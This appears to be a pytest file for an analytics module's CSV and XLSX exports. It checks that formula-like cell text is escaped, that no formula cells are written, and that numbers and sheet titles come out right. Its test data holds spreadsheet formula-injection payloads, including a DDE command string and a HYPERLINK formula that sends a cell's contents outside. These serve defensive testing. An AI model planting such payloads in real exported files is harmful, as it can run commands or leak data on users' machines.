"""CSV and XLSX exports of the reports: every table, no formula, raw values."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pandas as pd
from openpyxl import load_workbook

from analytics.export import csv_bytes, xlsx_bytes

HOSTILE = ['=HYPERLINK("http://x?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\tx"]


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "label": HOSTILE,
            "count": [1, 2, 3, 4, 5],
            "share": [0.5, None, 0.25, float("nan"), 1.0],
            "at": pd.to_datetime([dt.datetime(2026, 1, 2, 3, 4, tzinfo=dt.UTC)] * 5),
        }
    )


def test_csv_text_that_would_be_a_formula_is_prefixed():
    text = csv_bytes(_frame()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE]


def test_csv_is_for_french_excel():
    data = csv_bytes(_frame())
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM
    assert data.decode("utf-8-sig").splitlines()[0] == "label;count;share;at"


def test_xlsx_has_one_sheet_per_table_and_no_formula():
    book = load_workbook(io.BytesIO(xlsx_bytes({"liens": _frame(), "vide": _frame().head(0)})))
    assert book.sheetnames == ["liens", "vide"]
    for row in book["liens"].iter_rows():
        for cell in row:
            assert cell.data_type != "f"
    labels = [c.value for c in book["liens"]["A"]][1:]
    assert labels == ["'" + v for v in HOSTILE]


def test_xlsx_keeps_numbers_as_numbers_and_missing_as_empty():
    sheet = load_workbook(io.BytesIO(xlsx_bytes({"t": _frame()})))["t"]
    assert [c.value for c in sheet["B"]][1:] == [1, 2, 3, 4, 5]
    assert [c.value for c in sheet["C"]][1:] == [0.5, None, 0.25, None, 1.0]
    assert sheet["D2"].value == dt.datetime(2026, 1, 2, 3, 4)  # UTC wall time


def test_xlsx_sheet_titles_are_made_valid():
    book = load_workbook(io.BytesIO(xlsx_bytes({"a/b:c*" + "x" * 40: _frame()})))
    assert len(book.sheetnames[0]) <= 31 and "/" not in book.sheetnames[0]
